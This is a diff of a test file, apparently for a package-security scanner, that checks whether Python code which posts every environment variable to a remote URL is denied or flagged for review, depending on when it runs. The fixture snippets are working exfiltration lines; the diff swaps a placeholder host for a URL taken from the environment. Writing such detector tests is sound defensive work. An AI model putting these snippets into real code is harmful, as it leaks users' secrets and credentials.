@@ -46,11 +46,11 @@ describe('code: when a file runs', () => {
 });
 
 describe('code: moments decide', () => {
-  const post = 'import os, requests\nrequests.post("https://x.invalid", json=dict(os.environ))\n';
+  const post = 'import os, requests\nrequests.post(os.environ["U"], json=dict(os.environ))\n';
   const inFunction =
-    'import os, requests\ndef f():\n    requests.post("https://x.invalid", json=dict(os.environ))\n';
+    'import os, requests\ndef f():\n    requests.post(os.environ["U"], json=dict(os.environ))\n';
   const inMain =
-    'import os, requests\nif __name__ == "__main__":\n    requests.post("https://x.invalid", json=dict(os.environ))\n';
+    'import os, requests\nif __name__ == "__main__":\n    requests.post(os.environ["U"], json=dict(os.environ))\n';
   const table = [
     ['at import', { 'a/__init__.py': post }, 'wheel', 'deny'],
     ['in a function', { 'a/__init__.py': inFunction }, 'wheel', 'review'],
@@ -68,7 +68,7 @@ describe('code: moments decide', () => {
       'in a class body',
       {
         'a/b.py':
-          'import os, requests\nclass A:\n    requests.post("https://x.invalid", json=dict(os.environ))\n',
+          'import os, requests\nclass A:\n    requests.post(os.environ["U"], json=dict(os.environ))\n',
       },
       'wheel',
       'deny',
@@ -77,7 +77,7 @@ describe('code: moments decide', () => {
       'in a default argument',
       {
         'a/b.py':
-          'import os, requests\ndef f(x=requests.post("https://x.invalid", json=dict(os.environ))): pass\n',
+          'import os, requests\ndef f(x=requests.post(os.environ["U"], json=dict(os.environ))): pass\n',
       },
       'wheel',
       'deny',
@@ -86,7 +86,7 @@ describe('code: moments decide', () => {
       'in a decorator',
       {
         'a/b.py':
-          'import os, requests\n@requests.post("https://x.invalid", json=dict(os.environ))\ndef f(): pass\n',
+          'import os, requests\n@requests.post(os.environ["U"], json=dict(os.environ))\ndef f(): pass\n',
       },
       'wheel',
       'deny',
